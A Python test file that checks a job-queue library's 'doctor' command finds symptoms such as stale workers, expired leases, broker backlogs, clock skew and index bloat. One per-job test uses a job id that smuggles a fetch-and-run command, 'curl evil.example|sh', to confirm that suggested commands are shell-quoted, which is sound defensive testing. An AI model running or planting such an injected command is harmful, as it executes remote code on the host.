"""``leaseq doctor`` finds each symptom of the diagnostic map in a store prepared to show it,
and nothing in a healthy one."""

from __future__ import annotations

import json
import shlex
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from click.testing import CliRunner

import leaseq
from leaseq.browse import IndexHealth
from leaseq.cli import cli
from leaseq.doctor import DoctorConfig, check_index_bloat, diagnose, diagnose_job
from leaseq.job import Job, JournalEntry, Lease
from leaseq.stores.base import Store

W = "host:1:aaaa0001"


@pytest.fixture
def store(tmp_path) -> Iterator[Store]:
    store = leaseq.connect(f"sqlite:///{tmp_path}/jobs.db")
    yield store
    store.close()


def checks(store: Store) -> set[str]:
    """The checks that found something; this host's clock moves with the store's test
    offset, so only the symptom prepared shows."""
    return {f.check for f in diagnose(
        store, local_clock=lambda: time.time() + store.time_offset_s).findings}


def healthy(store: Store) -> None:
    q = store.queue("mail")
    q.enqueue("done-1", {})
    q.complete(q.claim(W)[0], None)
    q.enqueue("ready-1", {})
    store.register_worker(W, ["mail"], 0)


def test_a_healthy_store_shows_nothing(store: Store, tmp_path) -> None:
    healthy(store)
    report = diagnose(store)
    assert report.findings == [] and not report.failed
    assert "schema" in report.checks_run and "clock" in report.checks_run
    result = CliRunner().invoke(cli, ["doctor", "--url", f"sqlite:///{tmp_path}/jobs.db"])
    assert result.exit_code == 0 and "healthy" in result.output


def test_ready_work_with_no_live_worker(store: Store) -> None:
    healthy(store)
    store.time_offset_s = 120  # the worker's last beat is now two minutes old
    assert "ready_without_worker" in checks(store)


def test_oldest_ready_over_the_threshold(store: Store) -> None:
    healthy(store)
    store.time_offset_s = 400
    store.register_worker(W, ["mail"], 0)
    assert checks(store) == {"oldest_ready"}


def test_ready_jobs_all_held_back_by_a_key_limit_are_not_too_few_workers(store: Store) -> None:
    # Given a queue whose key limit of 1 holds back its other jobs, old and ready, while a
    # live worker runs the key's one slot
    q = store.queue("mail", key_limit=1, lease_s=3600)
    for i in range(4):
        q.enqueue(f"k-{i}", {}, concurrency_key="tenant")
    assert len(q.claim(W, limit=4)) == 1
    store.time_offset_s = 400
    store.register_worker(W, ["mail"], 0)
    # Then doctor does not tell anyone to start more workers: they would not run these
    assert "oldest_ready" not in checks(store)
    # But one ready job no limit holds is still found
    store.queue("mail").enqueue("free", {})
    store.time_offset_s = 800
    store.register_worker(W, ["mail"], 0)
    assert "oldest_ready" in checks(store)


def test_a_backlog_the_rate_limit_holds_is_not_too_few_workers(store: Store) -> None:
    # Given a queue limited to 2 claims a second with 10 old ready jobs, a live worker
    q = store.queue("mail", rate_per_s=2)
    for i in range(10):
        q.enqueue(f"r-{i}", {})
    assert len(q.claim(W, limit=1)) == 1  # its claims record the limit
    store.time_offset_s = 400
    store.register_worker(W, ["mail"], 0)
    # Then doctor does not tell anyone to start more workers: the rate lets 2 a second go
    assert "oldest_ready" not in checks(store)


def test_leases_that_ran_out_and_were_not_reclaimed(store: Store) -> None:
    healthy(store)
    store.queue("mail").claim(W, lease_s=5)
    store.time_offset_s = 30
    store.register_worker(W, ["mail"], 1)
    assert checks(store) == {"expired_leases"}


def test_a_job_finished_between_two_reads_is_no_expired_lease(
        store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    # Given a busy queue: a job under a live lease, finished by its worker just as the doctor
    # reads the queue (between its summary and its in-flight count: made to happen here)
    healthy(store)
    q = store.queue("mail")
    (job,) = q.claim(W, lease_s=900)
    in_flight = store.in_flight

    def finishing_first(queue: str) -> int:
        q.complete(job, None)
        return in_flight(queue)

    monkeypatch.setattr(store, "in_flight", finishing_first)
    # Then no lease is reported as run out (processing − in flight, read apart, counted it)
    assert "expired_leases" not in checks(store)


def test_ready_jobs_past_the_counts_cap_are_not_taken_as_all_held_back(
        store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    # Given 5 jobs of a key limited to one at a time held back and 3 jobs without a key that
    # wait for no limit, all old, with the ready count capped at 5 (COUNT_CAP, made small)
    q = store.queue("mail", key_limit=1, lease_s=3600)
    for i in range(6):
        q.enqueue(f"k-{i}", {}, concurrency_key="tenant")
    for i in range(3):
        q.enqueue(f"u-{i}", {})
    assert q.claim_one("k-0", W) is not None
    summary = store.queue_summary
    monkeypatch.setattr(store, "queue_summary", lambda queue: summary(queue, cap=5))
    store.time_offset_s = 400
    store.register_worker(W, ["mail"], 0)
    # Then the jobs no limit holds are reported waiting (the capped 5 ready read as "all
    # held back" by the 5 the key holds)
    assert "oldest_ready" in checks(store)


def test_a_quarantine_that_grew_this_hour_warns(store: Store) -> None:
    healthy(store)
    q = store.queue("mail")
    q.fail(q.claim(W)[0], "boom")
    report = diagnose(store, local_clock=time.time)
    assert {f.check for f in report.findings} == {"quarantine_grew"}
    assert not report.failed  # a warning


def test_jobs_owed_to_the_broker_and_jobs_published_but_never_claimed(store: Store) -> None:
    healthy(store)
    q = store.queue("mail")
    (job,) = store.outbox_due("mail", 10)
    store.mark_published("mail", [Lease(job.id, job.lease_epoch)])
    q.enqueue("owed-1", {})
    # A publish journaled this hour turns the broker checks on by themselves
    eager = DoctorConfig(unpublished_s=-1, unclaimed_s=-1)
    assert {"outbox_owed", "published_unclaimed"} <= {
        f.check for f in diagnose(store, eager).findings}
    assert not {"outbox_owed", "published_unclaimed"} & checks(store)  # not yet overdue
    # And --broker runs them whatever the journal says, here ten minutes on
    store.time_offset_s = 900
    store.register_worker(W, ["mail"], 0)
    found = diagnose(store, DoctorConfig(broker=True, oldest_ready_s=3600),
                     local_clock=lambda: time.time() + 900)
    assert {f.check for f in found.findings} == {"outbox_owed", "published_unclaimed"}
    # And the action it gives runs as written: leaseq dispatch needs the broker's URL
    (owed,) = [f for f in found.findings if f.check == "outbox_owed"]
    assert owed.action == "leaseq dispatch --amqp-url AMQP_URL --queue mail"


def test_clock_skew_between_the_database_and_this_host(store: Store, tmp_path) -> None:
    healthy(store)
    report = diagnose(store, local_clock=lambda: store.server_now().timestamp() - 30)
    assert [f.check for f in report.findings] == ["clock"]
    # And the command exits non-zero, with each finding's four parts in its JSON
    result = CliRunner().invoke(cli, ["doctor", "--url", f"sqlite:///{tmp_path}/jobs.db",
                                      "--json", "--live-worker-s", "0.000001"])
    assert result.exit_code == 1
    found = json.loads(result.output.split("\nleaseq:")[0])["findings"]
    assert {"symptom", "cause", "ran", "action"} <= set(found[0])
    assert found[0]["action"].startswith("leaseq ")



def test_sqlite_has_no_index_estimate_so_no_index_finding(store: Store) -> None:
    healthy(store)
    report = diagnose(store, DoctorConfig(index_min_bytes=0, index_bloat_share=0.0))
    assert store.index_health() == []
    assert "index_bloat" in report.checks_run
    assert "index_bloat" not in {f.check for f in report.findings}


class Indexes:
    """A store's ``index_health`` alone: the part ``check_index_bloat`` reads."""

    def __init__(self, *indexes: IndexHealth) -> None:
        self.indexes = list(indexes)

    def index_health(self) -> list[IndexHealth]:
        return self.indexes


def test_index_bloat_is_a_warning_past_both_thresholds() -> None:
    mb = 1_000_000
    big = IndexHealth("app", "jobs_status", "jobs", 40 * mb, 30 * mb)
    lean = IndexHealth("app", "jobs_pkey", "jobs", 40 * mb, 10 * mb)
    tiny = IndexHealth("app", "jobs_task", "jobs", 2 * mb, 2 * mb - 8192)
    store: Any = Indexes(big, lean, tiny)
    (found,) = check_index_bloat(store, DoctorConfig())
    assert found.symptom == "index jobs_status on jobs: about 75% of its 40 MB is bloat (estimated)"
    assert found.action.startswith("REINDEX INDEX CONCURRENTLY app.jobs_status")
    assert found.severity == "warn"
    assert [f.symptom.split()[1] for f in check_index_bloat(
        store, DoctorConfig(index_min_bytes=mb))] == ["jobs_status", "jobs_task"]


def story(*events: tuple[str, str | None]) -> list[JournalEntry]:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    return [JournalEntry(at + timedelta(seconds=i), "j1", event, reason=reason)
            for i, (event, reason) in enumerate(events)]


def test_one_jobs_story_read_against_the_map() -> None:
    now = datetime(2026, 1, 1, 1, tzinfo=UTC)
    done = Job(id="j1", queue="mail", status="done", payload={}, updated_at=now)
    # A result saved after a broker delivery, with no ack after it
    no_ack = story(("received", None), ("claimed", None), ("result_saved", "done"))
    assert [f.check for f in diagnose_job(done, no_ack, now)] == ["result_without_ack"]
    acked = [*no_ack, *story(("ack_sent", None))]
    assert diagnose_job(done, acked, now) == []
    # Retries that keep failing for the same reason
    failing = Job(id="j1", queue="mail", status="pending", payload={}, updated_at=now)
    same = story(("retry_scheduled", "KeyError: 'name'"), ("retry_scheduled", "KeyError: 'name'"))
    (found,) = diagnose_job(failing, same, now)
    assert found.check == "same_reason_retried"
    assert "`leaseq cancel --queue mail j1`" in found.action
    # An id that a shell would read as more than a word is quoted, so a pasted command
    # cancels that job and runs nothing else
    hostile = Job(id="order 42; curl evil.example|sh", queue="mail", status="pending",
                  payload={}, updated_at=now)
    (found,) = diagnose_job(hostile, same, now)
    command = found.action.split("`")[1]
    assert shlex.split(command) == ["leaseq", "cancel", "--queue", "mail", hostile.id]
    varied = story(("retry_scheduled", "timeout"), ("retry_scheduled", "503"))
    assert diagnose_job(failing, varied, now) == []
    # Broker mode: pending long with no publish
    waiting = Job(id="j1", queue="mail", status="pending", payload={},
                  updated_at=now - timedelta(minutes=5))
    published_once = story(("published", None), ("claimed", None), ("retry_scheduled", "x"))
    assert [f.check for f in diagnose_job(waiting, published_once, now)] == [
        "queued_unpublished"]
